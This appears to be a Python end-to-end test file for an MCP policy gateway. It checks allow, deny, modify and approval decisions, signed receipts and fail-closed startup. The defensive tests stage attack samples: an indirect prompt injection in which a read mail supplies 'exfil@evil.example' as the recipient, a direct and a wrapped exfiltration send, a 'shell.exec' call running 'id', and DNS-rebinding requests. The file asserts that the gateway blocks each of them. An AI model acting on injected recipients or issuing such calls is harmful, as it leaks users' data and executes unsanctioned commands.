"""`aarmc gateway` end to end: a real MCP client, the gateway, a real MCP server.

The servers (`tests/mcp_servers/`) are FastMCP / low-level SDK servers
started as subprocesses; they journal every call that reaches them, which is
how a test proves that a denied call never ran and sees what a forwarded one
carried. The client is the SDK's `mcp.ClientSession`, over stdio (the gateway
a subprocess, `python -m aarmc.cli_gateway gateway ...`) and over streamable
HTTP on 127.0.0.1. Receipts are checked with the offline verifier.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
import subprocess
import sys
import time
from datetime import timedelta
from pathlib import Path
from typing import Any

import anyio
import httpx
import mcp.types as types
import pytest
from click.testing import CliRunner
from mcp import ClientSession, StdioServerParameters, stdio_client
from mcp.client.streamable_http import streamable_http_client
from mcp.shared.exceptions import McpError

from aarm_runtime import keys
from aarm_runtime.engine import Engine
from aarm_runtime.identity import Identity, issue_identity
from aarm_runtime.timeline import build_timeline
from aarm_runtime.verify import read_verified, verify_log

from aarmc.cli_gateway import approve, gateway, pending, reject
from aarmc.compile import compile_policy, write_artifact
from aarmc.gateway.names import ArgumentNameClash, ToolNames
from aarmc.gateway.proxy import META_DECISION
from aarmc.gateway.run import GatewayOptions, open_gateway, parse_listen
from aarmc.gateway.visibility import may_not_deny
from aarmc.gateway.wire import BadArguments, exact_arguments, typed_to_wire
from aarmc.semantics.load import load_policy_text

ROOT = Path(__file__).resolve().parents[1]
SERVERS = ROOT / "tests" / "mcp_servers"
TOOLBOX = SERVERS / "toolbox.py"
DASHED = SERVERS / "dashed.py"

POLICY = """\
policy "gateway-test" version "1"
default deny

labels public < internal < confidential < restricted
tags pii

const internal_domains = {"corp.example"}

tool mail.read(folder: str = "INBOX") returns confidential untrusted tagged pii
tool mail.send(to: email, subject: str, body: str) returns none effects external
tool bank.pay(recipient: str, amount: decimal, note: str = "") returns none effects external
tool db.query(sql: str, limit: int = 100) returns internal
tool ops.restart(service: str) returns none effects write
tool admin.wipe(folder: str) returns none effects destructive
tool admin.nuke(target: str) returns none effects destructive
tool fail.always(x: int = 0) returns public
tool mcp.invoke(name: str, args: json) returns public untrusted wraps params.name with params.args

allow "read" mail.read
deny "injected-recipient" priority 350 mail.send
    when params.to from untrusted and not (params.to from user)
    because "the recipient came from untrusted content"
deny "no-external-after-pii" mail.send
    when "pii" in session.tags and params.to.domain not in internal_domains
    because "personal data was read in this session"
allow "internal-mail" mail.send when params.to.domain in internal_domains
allow "partner-mail" mail.send when params.to.domain == "partner.example"
allow "pay-small" bank.pay when params.amount <= 100
step_up "pay-large" bank.pay when params.amount > 100 approvers ["finance"] timeout 10m
modify "cap-rows" db.query when params.limit > 10 set limit = 10
allow "query" db.query
step_up "restart" ops.restart approvers ["oncall"] timeout 5m
forbid "no-nuke" admin.nuke because "nothing is nuked"
allow "fail" fail.always
"""

# As `aarmc import-mcp --prefix docs` declares the dashed server's tool.
DASHED_POLICY = """\
policy "dashed" version "1"
default deny
labels public < internal
tool docs.search_docs(query: str, per_page: int = 10) returns public
modify "page-cap" docs.search_docs when params.per_page > 20 set per_page = 20
allow "search" docs.search_docs
"""

VISIBLE = {"mail.read", "mail.send", "bank.pay", "db.query", "ops.restart", "fail.always", "mcp.invoke"}


def _compile(text: str, key: keys.SigningKey, out: Path) -> Path:
    loaded = load_policy_text(text, name="policy.aarm")
    assert loaded.policy is not None, [d.headline() for d in loaded.diagnostics]
    write_artifact(out, compile_policy(loaded.policy, key).data)
    return out


@pytest.fixture(scope="module")
def env(tmp_path_factory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("gateway")
    author = keys.generate_keypair(d / "author.key", d / "author.pub")
    keys.generate_keypair(d / "gateway.key", d / "gateway.pub")
    idp = keys.generate_keypair(d / "idp.key", d / "idp.pub")
    stranger = keys.SigningKey.generate()
    (d / "alice.cwt").write_bytes(issue_identity(Identity(issuer="test-idp", principal="alice", agent="bot"),
                                                 idp, ttl_s=3600))
    (d / "forged.cwt").write_bytes(issue_identity(Identity(issuer="test-idp", principal="mallory"), stranger,
                                                  ttl_s=3600))
    keys.generate_keypair(d / "other.key", d / "other.pub")
    return {"dir": d, "policy": _compile(POLICY, author, d / "policy.aarmc"),
            "dashed": _compile(DASHED_POLICY, author, d / "dashed.aarmc"),
            "author_pub": d / "author.pub", "other_pub": d / "other.pub", "gateway_key": d / "gateway.key",
            "gateway_pub": d / "gateway.pub", "idp_pub": d / "idp.pub", "token": d / "alice.cwt",
            "forged": d / "forged.cwt"}


def _gateway_args(env: dict[str, Path], run: Path, *extra: str, server: Path = TOOLBOX,
                  policy: Path | None = None) -> list[str]:
    return [
        "--policy", str(policy or env["policy"]), "--key", str(env["author_pub"]),
        "--receipt-key", str(env["gateway_key"]), "--receipts", str(run / "receipts.cbor"),
        "--approvals", str(run / "approvals.db"),
        "--identity", str(env["token"]), "--identity-issuer", f"test-idp={env['idp_pub']}",
        *extra, "--", sys.executable, str(server), "--journal", str(run / "journal.jsonl"),
    ]


def _journal(run: Path) -> list[dict[str, Any]]:
    path = run / "journal.jsonl"
    if not path.exists():
        return []
    return [json.loads(line) for line in path.read_text().splitlines()]


@contextlib.asynccontextmanager
async def _stdio_session(args: list[str]):
    params = StdioServerParameters(command=sys.executable, args=["-m", "aarmc.cli_gateway", "gateway", *args],
                                   cwd=str(ROOT), env=dict(os.environ))
    with open(os.devnull, "w") as errlog:
        async with stdio_client(params, errlog=errlog) as (read, write):
            async with ClientSession(read, write, read_timeout_seconds=timedelta(seconds=30)) as session:
                await session.initialize()
                yield session


def _text(result: types.CallToolResult) -> str:
    return "\n".join(b.text for b in result.content if isinstance(b, types.TextContent))


def _decision(result: types.CallToolResult) -> dict[str, Any]:
    return (result.meta or {})[META_DECISION]


def _cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "aarmc.cli_gateway", *args], capture_output=True, text=True,
                          cwd=ROOT, timeout=60)


def _receipts(env: dict[str, Path], run: Path) -> Any:
    verified = read_verified(run / "receipts.cbor", [keys.load_verify_key(env["gateway_pub"])])
    assert verified.verdict.status.value == "COMPLETE", verified.verdict.describe()
    return build_timeline(verified)


# ---- stdio, end to end --------------------------------------------------------------------------


def test_stdio_gateway_end_to_end(env, tmp_path):
    run = tmp_path
    args = _gateway_args(env, run, "--intent", "mail the notes to bob@corp.example", "--max-argument-bytes", "4096")
    seen: dict[str, Any] = {}
    ids: set[str] = set()

    async def agent() -> None:
        async with _stdio_session(args) as s:
            async def call(name: str, arguments: dict[str, Any], meta: dict[str, Any] | None = None) -> Any:
                result = await s.call_tool(name, arguments, meta=meta)
                ids.add(_decision(result)["decision_id"])
                return result

            listed = {t.name for t in (await s.list_tools()).tools}
            seen["listed"] = listed

            read = await call("mail.read", {})
            assert not read.isError and "exfil@evil.example" in _text(read)
            assert _decision(read)["decision"] == "allow" and _decision(read)["rules"] == ["read"]

            # Indirect prompt injection: the recipient came from the mail just read.
            injected = await call("mail.send", {"to": "exfil@evil.example", "subject": "list", "body": "x"})
            assert injected.isError
            assert "DENY `mail.send` by rule `injected-recipient`: the recipient came from untrusted content" \
                in _text(injected)
            assert _decision(injected)["status"] == "deny"

            legit = await call("mail.send", {"to": "bob@corp.example", "subject": "notes", "body": "hi"})
            assert not legit.isError and _text(legit) == "sent to bob@corp.example"

            # MODIFY: the server runs the capped query, also when the client relied on the default.
            capped = await call("db.query", {"sql": "select 1", "limit": 50})
            assert not capped.isError and _text(capped) == "10 rows"
            assert _decision(capped)["decision"] == "modify" and _decision(capped)["params"]["limit"] == 10
            defaulted = await call("db.query", {"sql": "select 2"})
            assert _text(defaulted) == "10 rows"

            small = await call("bank.pay", {"recipient": "Acme", "amount": 20.5})
            assert not small.isError and _text(small) == "paid 20.5 to Acme"

            # STEP_UP: answered at once, approved from another process, redeemed once.
            big_args = {"recipient": "Acme", "amount": 5000, "note": "INV-7"}
            big = await call("bank.pay", big_args)
            assert big.isError and _decision(big)["status"] == "pending"
            did = _decision(big)["decision_id"]
            assert f"pending approval {did}" in _text(big) and "aarmc approve" in _text(big)
            again = await call("bank.pay", {**big_args, "_aarm_approval": did})
            assert _decision(again)["status"] == "pending" and f"pending approval {did}" in _text(again)
            # While it waits, later actions of the session wait too (AARM R4: dependants are deferred).
            waiting = await call("mail.read", {})
            assert _decision(waiting)["status"] == "pending" and _decision(waiting)["reason"] == "pending-dependency"
            wid = _decision(waiting)["decision_id"]
            assert f"pending approval {wid}" in _text(waiting) and did in _text(waiting)

            listing = _cli("pending", "--approvals", str(run / "approvals.db"), "--params", "--format", "json")
            assert listing.returncode == 0, listing.stderr
            [waiting] = json.loads(listing.stdout)
            assert waiting["decision_id"] == did and waiting["tool"] == "bank.pay"
            assert waiting["params"] == {"recipient": "Acme", "amount": 5000, "note": "INV-7"}
            assert waiting["principal"] == "alice" and waiting["approvers"] == ["finance"]
            approved = _cli("approve", did, "--approvals", str(run / "approvals.db"), "--approver", "carol")
            assert approved.returncode == 0, approved.stderr
            assert f"approved {did} as `carol`" in approved.stdout

            other = await call("bank.pay", {**big_args, "amount": 9000, "_aarm_approval": did})
            assert other.isError and "approval-mismatch" in _text(other)
            paid = await call("bank.pay", {**big_args, "_aarm_approval": did})
            assert not paid.isError and _text(paid) == "paid 5000.0 to Acme"
            resumed = await call("mail.read", {"_aarm_approval": wid})
            assert not resumed.isError and _decision(resumed)["decision"] == "allow"
            twice = await call("bank.pay", {**big_args, "_aarm_approval": did})
            assert twice.isError and "approval-used" in _text(twice)

            # The `_meta` form of the approval id, and a rejection.
            restart = await call("ops.restart", {"service": "api"})
            rid = _decision(restart)["decision_id"]
            rejected = _cli("reject", rid, "--approvals", str(run / "approvals.db"), "--approver", "dave",
                            "--reason", "not during business hours")
            assert rejected.returncode == 0, rejected.stderr
            retried = await call("ops.restart", {"service": "api"}, meta={"aarm.dev/approval": rid})
            assert retried.isError and "rejected by `dave`: not during business hours" in _text(retried)

            # Hidden and undeclared tools are decided (and denied) all the same.
            nuked = await call("admin.nuke", {"target": "prod"})
            assert nuked.isError and "by rule `no-nuke`" in _text(nuked) and "forbidden" in _text(nuked)
            shell = await call("shell.exec", {"cmd": "id"})
            assert shell.isError and "unknown tool `shell.exec`" in _text(shell)
            typed = await call("mail.send", {"to": 12, "subject": "s", "body": "b"})
            assert typed.isError and "invalid-params" in _text(typed)

            # Meta-tools are decided as the tool they wrap.
            wrapped = await call("mcp.invoke", {"name": "mail.send",
                                                       "args": {"to": "exfil@evil.example", "subject": "s",
                                                                "body": "b"}})
            assert wrapped.isError and "`injected-recipient`" in _text(wrapped)
            wrapped_query = await call("mcp.invoke", {"name": "db.query", "args": {"sql": "q", "limit": 99}})
            assert not wrapped_query.isError and _decision(wrapped_query)["decision"] == "modify"

            failed = await call("fail.always", {})
            assert failed.isError and "the backend is down" in _text(failed)

            # Protocol errors: refused before any decision, nothing recorded.
            for name, arguments, meta, message in [
                ("mail.send", {"to": "bob@corp.example", "subject": "s", "body": "x" * 10_000}, None,
                 "the gateway accepts at most 4096"),
                ("x" * 300, {}, None, "a tool name must have 1 to 256 characters"),
                ("bank.pay", {**big_args, "_aarm_approval": 5}, None, "must be an approval id"),
                ("bank.pay", {**big_args, "_aarm_approval": "d1"}, {"aarm.dev/approval": "d2"},
                 "name different approvals"),
            ]:
                with pytest.raises(McpError) as caught:
                    await s.call_tool(name, arguments, meta=meta)
                assert caught.value.error.code == types.INVALID_PARAMS
                assert message in caught.value.error.message

    anyio.run(agent)
    assert seen["listed"] == VISIBLE
    calls = _journal(run)
    assert [c["tool"] for c in calls] == ["mail.read", "mail.send", "db.query", "db.query", "bank.pay", "bank.pay",
                                          "mail.read", "mcp.invoke", "fail.always"]
    assert calls[0]["args"] == {"folder": "INBOX"}  # the policy's default, forwarded
    assert calls[1]["args"]["to"] == "bob@corp.example"
    assert calls[2]["args"]["limit"] == 10 and calls[3]["args"]["limit"] == 10
    assert calls[5]["args"] == {"recipient": "Acme", "amount": 5000.0, "note": "INV-7"}
    assert calls[7]["args"] == {"name": "db.query", "args": {"sql": "q", "limit": 10}}

    timeline = _receipts(env, run)
    [session] = timeline.sessions
    assert session.identity.principal == "alice"
    steps = session.steps
    assert {s.decision_id for s in steps} == ids
    effects = [(s.tool, s.decision.effect, s.decision.reason) for s in steps]
    assert effects[1] == ("mail.send", "deny", "rule") and not steps[1].executed
    pay = next(s for s in steps if s.decision.effect == "step_up" and s.tool == "bank.pay")
    assert pay.approval.verdict == "approved" and pay.approval.approver == "carol" and pay.outcome.ok
    restart = next(s for s in steps if s.tool == "ops.restart")
    assert restart.approval.verdict == "rejected" and restart.outcome is None
    wrapped = [s for s in steps if s.wrapper == "mcp.invoke"]
    assert [(s.tool, s.decision.effect) for s in wrapped] == [("mail.send", "deny"), ("db.query", "modify")]
    failed = steps[-1]
    assert failed.tool == "fail.always" and failed.outcome is not None and not failed.outcome.ok


def test_malformed_json_rpc_over_stdio(env, tmp_path):
    """Raw bytes on the gateway's stdin: garbage and malformed requests get errors, the session carries on."""
    proc = subprocess.Popen([sys.executable, "-m", "aarmc.cli_gateway", "gateway", *_gateway_args(env, tmp_path)],
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, cwd=ROOT)

    def send(obj: Any) -> None:
        proc.stdin.write((obj if isinstance(obj, str) else json.dumps(obj)).encode() + b"\n")
        proc.stdin.flush()

    def reply(want_id: int) -> dict[str, Any]:
        while True:
            line = proc.stdout.readline()
            assert line, "the gateway closed its stdout"
            msg = json.loads(line)
            if msg.get("id") == want_id:
                return msg

    try:
        send({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
            "protocolVersion": types.LATEST_PROTOCOL_VERSION, "capabilities": {},
            "clientInfo": {"name": "raw", "version": "0"}}})
        assert "result" in reply(1)
        send({"jsonrpc": "2.0", "method": "notifications/initialized"})
        send("this is not json {")
        send('{"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "mail.send", '
             '"arguments": "not an object"}}')
        assert reply(2)["error"]["code"] == types.INVALID_PARAMS
        send({"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": {"name": 5}})
        assert reply(3)["error"]["code"] == types.INVALID_PARAMS
        send({"jsonrpc": "2.0", "id": 4, "method": "resources/list"})
        assert reply(4)["error"]["code"] == types.METHOD_NOT_FOUND
        send({"jsonrpc": "2.0", "id": 5, "method": "tools/call", "params": {
            "name": "mail.read", "arguments": {"folder": "INBOX", "deep": [[[[[[[[[[[[1]]]]]]]]]]]]}}})
        result = reply(5)["result"]
        assert result["isError"] and "invalid-params" in result["content"][0]["text"]
        send({"jsonrpc": "2.0", "id": 6, "method": "tools/call", "params": {"name": "mail.read"}})
        result = reply(6)["result"]
        assert not result["isError"] and "exfil@evil.example" in result["content"][0]["text"]
    finally:
        proc.stdin.close()
        assert proc.wait(timeout=30) == 0
    assert [c["tool"] for c in _journal(tmp_path)] == ["mail.read"]
    [session] = _receipts(env, tmp_path).sessions
    assert [(s.tool, s.decision.effect) for s in session.steps] == [("mail.read", "deny"), ("mail.read", "allow")]


def test_prefix_maps_names_both_ways(env, tmp_path):
    args = _gateway_args(env, tmp_path, "--prefix", "docs", server=DASHED, policy=env["dashed"])

    async def agent() -> None:
        async with _stdio_session(args) as s:
            assert [t.name for t in (await s.list_tools()).tools] == ["search-docs"]
            capped = await s.call_tool("search-docs", {"query": "aarm", "per-page": 50})
            assert _text(capped) == "20 results for aarm" and _decision(capped)["decision"] == "modify"
            plain = await s.call_tool("search-docs", {"query": "aarm", "per-page": 5})
            assert _text(plain) == "5 results for aarm"
            clash = await s.call_tool("search-docs", {"query": "q"})
            assert _text(clash) == "10 results for q"

    anyio.run(agent)
    assert [c["args"] for c in _journal(tmp_path)] == [{"query": "aarm", "per-page": 20},
                                                       {"query": "aarm", "per-page": 5},
                                                       {"query": "q", "per-page": 10}]
    [session] = _receipts(env, tmp_path).sessions
    assert {s.tool for s in session.steps} == {"docs.search_docs"}


# ---- streamable HTTP ------------------------------------------------------------------------------


def test_streamable_http_sessions_are_separate(env, tmp_path):
    proc = subprocess.Popen([sys.executable, "-m", "aarmc.cli_gateway", "gateway",
                             *_gateway_args(env, tmp_path, "--listen", "127.0.0.1:0")],
                            stderr=subprocess.PIPE, text=True, cwd=ROOT)
    try:
        url = None
        deadline = time.monotonic() + 60
        while url is None and time.monotonic() < deadline:
            line = proc.stderr.readline()
            assert line, "the gateway exited before serving"
            found = re.search(r"serving (http://127\.0\.0\.1:\d+/mcp)", line)
            url = found.group(1) if found else None
        assert url is not None

        async def agents() -> None:
            async with streamable_http_client(url) as (r1, w1, _), ClientSession(r1, w1) as one:
                await one.initialize()
                async with streamable_http_client(url) as (r2, w2, _), ClientSession(r2, w2) as two:
                    await two.initialize()
                    assert {t.name for t in (await one.list_tools()).tools} == VISIBLE
                    await one.call_tool("mail.read", {})
                    # Session one has read personal data; session two has not.
                    out_one = await one.call_tool("mail.send", {"to": "x@partner.example", "subject": "s", "body": "b"})
                    assert out_one.isError and "`no-external-after-pii`" in _text(out_one)
                    out_two = await two.call_tool("mail.send", {"to": "x@partner.example", "subject": "s", "body": "b"})
                    assert not out_two.isError
                    big = await two.call_tool("bank.pay", {"recipient": "Acme", "amount": 700})
                    did = _decision(big)["decision_id"]
                    approved = _cli("approve", did, "--approvals", str(tmp_path / "approvals.db"), "--approver", "eve")
                    assert approved.returncode == 0, approved.stderr
                    # Another session cannot redeem it.
                    stolen = await one.call_tool("bank.pay", {"recipient": "Acme", "amount": 700,
                                                              "_aarm_approval": did})
                    assert stolen.isError and "unknown-decision" in _text(stolen)
                    paid = await two.call_tool("bank.pay", {"recipient": "Acme", "amount": 700,
                                                            "_aarm_approval": did})
                    assert not paid.isError

        anyio.run(agents)
        # DNS rebinding: a page that points a name of its own at 127.0.0.1 is refused.
        port = url.split(":")[2].split("/")[0]
        rebound = httpx.post(url, headers={"Host": f"evil.example:{port}", "Content-Type": "application/json",
                                           "Accept": "application/json, text/event-stream"}, content=b"{}")
        assert rebound.status_code == 421
        foreign = httpx.post(url, headers={"Origin": "http://evil.example", "Content-Type": "application/json",
                                           "Accept": "application/json, text/event-stream"}, content=b"{}")
        assert foreign.status_code == 403
    finally:
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(timeout=30) == 0
    assert [c["tool"] for c in _journal(tmp_path)] == ["mail.read", "mail.send", "bank.pay"]
    sessions = _receipts(env, tmp_path).sessions
    assert len(sessions) == 2 and all(s.ended_ns is not None for s in sessions)


# ---- fail closed ------------------------------------------------------------------------------------


def _refusal(env: dict[str, Path], run: Path, *args: str) -> str:
    result = CliRunner().invoke(gateway, list(args))
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    return result.output


def test_refuses_to_start_without_a_usable_policy_log_identity_or_server(env, tmp_path):
    good = _gateway_args(env, tmp_path)

    def replace(option: str, value: str) -> list[str]:
        out = list(good)
        out[out.index(option) + 1] = value
        return out

    assert "cannot load policy" in _refusal(env, tmp_path, *replace("--key", str(env["other_pub"])))
    assert "cannot load policy" in _refusal(env, tmp_path, *replace("--policy", str(tmp_path / "missing.aarmc")))
    assert "cannot load the receipt signing key" in _refusal(env, tmp_path,
                                                             *replace("--receipt-key", str(env["author_pub"])))
    assert "cannot use receipt log" in _refusal(env, tmp_path,
                                                *replace("--receipts", str(tmp_path / "no" / "such" / "log")))
    assert "refused" in _refusal(env, tmp_path, *replace("--identity", str(env["forged"])))
    without = [a for a in good if a not in ("--identity", str(env["token"]))]
    assert "no identity" in _refusal(env, tmp_path, *without)
    assert "not a loopback address" in _refusal(env, tmp_path, "--listen", "0.0.0.0:8000", *good)
    for n, command in enumerate(([sys.executable, "-c", "import sys; sys.exit(3)"], [str(tmp_path / "nothing")])):
        # Each in a directory of its own: the log a refused start leaves is closed.
        run = tmp_path / f"run{n}"
        run.mkdir()
        args = _gateway_args(env, run)
        assert "did not start" in _refusal(env, run, *args[:args.index("--") + 1], *command)
        assert verify_log(run / "receipts.cbor", [keys.load_verify_key(env["gateway_pub"])]).ok
    # None of those attempts served a call or left an open log behind.
    assert _journal(tmp_path) == []


def test_a_closed_log_is_refused_and_a_directory_gets_a_log_per_run(env, tmp_path):
    async def once(args: list[str]) -> None:
        async with _stdio_session(args) as s:
            await s.call_tool("mail.read", {})

    trusted = [keys.load_verify_key(env["gateway_pub"])]
    anyio.run(once, _gateway_args(env, tmp_path))
    assert verify_log(tmp_path / "receipts.cbor", trusted).ok
    assert "receipt log" in (out := _refusal(env, tmp_path, *_gateway_args(env, tmp_path))) and "is closed" in out
    per_run = _gateway_args(env, tmp_path)
    per_run[per_run.index("--receipts") + 1] = str(tmp_path / "logs") + os.sep
    anyio.run(once, per_run)
    anyio.run(once, per_run)
    logs = sorted((tmp_path / "logs").iterdir())
    assert len(logs) == 2 and all(verify_log(log, trusted).ok for log in logs)


def test_an_unwritable_receipt_log_denies_every_call(env, tmp_path):
    """The log's file descriptor is pointed at /dev/full mid-run: every write fails, nothing is forwarded."""
    options = GatewayOptions(
        policy=env["policy"], policy_keys=(env["author_pub"],), receipts=tmp_path / "receipts.cbor",
        receipt_key=env["gateway_key"], approvals=tmp_path / "approvals.db", unsafe_no_identity=True,
        command=(sys.executable, str(TOOLBOX), "--journal", str(tmp_path / "journal.jsonl")))
    from mcp.shared.memory import create_client_server_memory_streams

    async def scenario() -> None:
        with open(os.devnull, "w") as errlog:
            async with open_gateway(options, errlog=errlog) as gw:
                server = gw.server()
                async with create_client_server_memory_streams() as (client_streams, server_streams):
                    async with anyio.create_task_group() as tg:
                        tg.start_soon(lambda: server.run(*server_streams, server.create_initialization_options()))
                        async with ClientSession(*client_streams) as s:
                            await s.initialize()
                            ok = await s.call_tool("mail.read", {})
                            assert not ok.isError
                            _break_file(tmp_path / "receipts.cbor")
                            for _ in range(2):
                                denied = await s.call_tool("mail.read", {})
                                assert denied.isError and "DENY" in _text(denied)
                                assert _decision(denied)["status"] == "deny"
                        tg.cancel_scope.cancel()

    anyio.run(scenario)
    assert [c["tool"] for c in _journal(tmp_path)] == ["mail.read"]


def _break_file(path: Path) -> None:
    """Point every descriptor this process holds on `path` at /dev/full (writes fail with ENOSPC)."""
    target = os.path.realpath(path)
    full = os.open("/dev/full", os.O_WRONLY)
    try:
        hit = 0
        for fd in os.listdir("/proc/self/fd"):
            try:
                if os.readlink(f"/proc/self/fd/{fd}") == target:
                    os.dup2(full, int(fd))
                    hit += 1
            except OSError:
                continue
        assert hit, f"no descriptor open on {target}"
    finally:
        os.close(full)


# ---- the CLI for approvals ----------------------------------------------------------------------------


def test_approval_commands_report_problems(tmp_path):
    runner = CliRunner()
    missing = runner.invoke(approve, ["d1", "--approvals", str(tmp_path / "none.db")])
    assert missing.exit_code == 2 and "no approvals database" in missing.output
    from aarm_runtime.approvals_store import SqliteApprovals

    SqliteApprovals(tmp_path / "a.db").close()
    unknown = runner.invoke(reject, ["d1", "--approvals", str(tmp_path / "a.db"), "--approver", "x"])
    assert unknown.exit_code == 1 and "no approval request for decision `d1`" in unknown.output
    empty = runner.invoke(pending, ["--approvals", str(tmp_path / "a.db")])
    assert empty.exit_code == 0 and empty.output.strip() == "no pending approvals"
    assert json.loads(runner.invoke(pending, ["--approvals", str(tmp_path / "a.db"), "--format", "json"]).output) == []


# ---- the pieces ------------------------------------------------------------------------------------------


def _engine(text: str) -> Engine:
    loaded = load_policy_text(text, name="p.aarm")
    assert loaded.policy is not None, [d.headline() for d in loaded.diagnostics]
    key = keys.SigningKey.generate()
    return Engine.load(compile_policy(loaded.policy, key, validate=False).data, [key.verify_key])


VISIBILITY = """\
policy "v" version "1"
default {default}
tool a.ruleless(x: int)
tool a.cond_deny(x: int)
tool a.top_deny(x: int)
tool a.low_deny(x: int)
tool a.forbidden(x: int)
tool a.cond_forbid(x: int)
tool a.step(x: int)
tool a.meta(name: str, args: json) wraps params.name with params.args
deny "d1" a.cond_deny when params.x > 1
deny "d2" priority 500 a.top_deny
allow "a2" a.top_deny
allow "a3" priority 500 a.low_deny when params.x > 1
deny "d3" priority 400 a.low_deny
forbid "f1" a.forbidden
forbid "f2" a.cond_forbid when params.x > 1
step_up "s1" a.step approvers ["h"] timeout 1m
"""


@pytest.mark.parametrize("default, expected", [
    ("deny", {"a.low_deny", "a.step", "a.meta"}),
    ("allow", {"a.ruleless", "a.cond_deny", "a.low_deny", "a.cond_forbid", "a.step", "a.meta"}),
])
def test_visibility_is_exact_where_it_hides(default, expected):
    engine = _engine(VISIBILITY.format(default=default))
    art = engine.artifact
    visible = {t.name for t in art.tools if may_not_deny(art, t.name)}
    assert visible == expected
    assert not may_not_deny(art, "a.undeclared")
    # Every hidden tool is DENY whatever the params: the engine agrees.
    for tool in set(engine.tools) - visible:
        for x in (-5, 0, 1, 2, 10**6):
            assert engine.decide({"tool": tool, "params": {"x": x}}).decision == "deny"
    # And a visible one can be something else.
    assert engine.decide({"tool": "a.low_deny", "params": {"x": 2}}).decision == "allow"


def test_names_and_wire_helpers():
    names = ToolNames.build([("a-b", {"properties": {"x-y": {}, "x_y": {}}}), ("a_b", {})], prefix="svc")
    assert names.policy_name("a-b") == "svc.a_b" and names.policy_name("a_b") == "svc.a_b_2"
    assert names.to_policy_args("a-b", {"x-y": 1, "x_y": 2}) == {"x_y": 1, "x_y_2": 2}
    assert names.to_server_args("a-b", {"x_y": 1, "x_y_2": 2}) == {"x-y": 1, "x_y": 2}
    with pytest.raises(ArgumentNameClash):
        ToolNames.build([("t", {"properties": {"per-page": {}}})]).to_policy_args("t", {"per-page": 1, "per_page": 2})
    assert ToolNames.build([("email.send", {})]).policy_name("email.send") == "email.send"
    with pytest.raises(BadArguments, match="NaN"):
        exact_arguments({"x": float("nan")}, 100)
    with pytest.raises(BadArguments, match="at most 10"):
        exact_arguments({"x": "a" * 20}, 10)
    from aarm_runtime import values

    assert typed_to_wire("12.50", values.Prim("decimal")) == 12.5
    assert typed_to_wire(["3"], values.OptT(values.ListT(values.Prim("decimal")))) == [3]
    assert typed_to_wire("3", values.Prim("str")) == "3"
    with pytest.raises(ValueError):
        parse_listen("10.0.0.1:80")


def test_streamable_http_clients_with_a_session_bound_token_share_that_session(env, tmp_path):
    idp = keys.load_signing_key(env["dir"] / "idp.key")
    bound = tmp_path / "bound.cwt"
    bound.write_bytes(issue_identity(Identity(issuer="test-idp", principal="alice", agent="bot", session="s-bound"),
                                     idp, ttl_s=3600))
    args = _gateway_args(env, tmp_path, "--listen", "127.0.0.1:0")
    args[args.index(str(env["token"]))] = str(bound)
    proc = subprocess.Popen([sys.executable, "-m", "aarmc.cli_gateway", "gateway", *args],
                            stderr=subprocess.PIPE, text=True, cwd=ROOT)
    try:
        url = None
        deadline = time.monotonic() + 60
        while url is None and time.monotonic() < deadline:
            line = proc.stderr.readline()
            assert line, "the gateway exited before serving"
            found = re.search(r"serving (http://127\.0\.0\.1:\d+/mcp)", line)
            url = found.group(1) if found else None
        assert url is not None

        async def agents() -> None:
            async with streamable_http_client(url) as (r1, w1, _), ClientSession(r1, w1) as one:
                await one.initialize()
                async with streamable_http_client(url) as (r2, w2, _), ClientSession(r2, w2) as two:
                    await two.initialize()
                    await one.call_tool("mail.read", {})
                    # The token names one session: the second client serves it too, personal data read included.
                    out_two = await two.call_tool("mail.send", {"to": "x@partner.example", "subject": "s", "body": "b"})
                    assert out_two.isError and "`no-external-after-pii`" in _text(out_two)

        anyio.run(agents)
    finally:
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(timeout=30) == 0
    sessions = _receipts(env, tmp_path).sessions
    assert [s.session for s in sessions] == ["s-bound"]
